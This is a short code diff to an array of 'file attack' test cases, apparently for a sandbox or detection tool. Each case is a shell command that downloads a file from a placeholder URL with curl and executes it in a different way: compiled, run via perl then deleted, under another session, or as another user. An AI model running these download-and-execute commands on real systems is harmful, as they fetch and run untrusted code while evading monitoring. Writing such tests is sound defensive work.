@@ -52,9 +52,8 @@ const Attack kFileAttacks[] = {
     FILE_CASE("compiled on the host", "curl -s -o @D/f.c @C_URL; cc -o @D/f @D/f.c; @D/f"),
     FILE_CASE("perl, and the file removed", "curl -s -o @D/f @PERL_URL; perl @D/f; rm -rf @D/f"),
     FILE_CASE("another session", "setsid -w curl -s -o @D/f @URL; setsid -w bash @D/f"),
-    FILE_CASE("another user", "curl -s -o @D/f @URL; chmod 755 @D; chmod 777 @D/f; umask 0; "
-                              "mkdir -m 777 @D/open; "
-                              "setpriv --reuid 65534 --clear-groups bash @D/f || true"),
+    FILE_CASE("another user", "curl -s -o @D/f @URL; chmod 777 @D @D/f; "
+                              "setpriv --reuid 65534 --clear-groups bash @D/f"),
     FILE_CASE("the downloader long dead",
               "(curl -s -o @D/f @URL) & wait; sleep 0.5; (exec bash @D/f)"),
     FILE_CASE("dev tcp and cat",
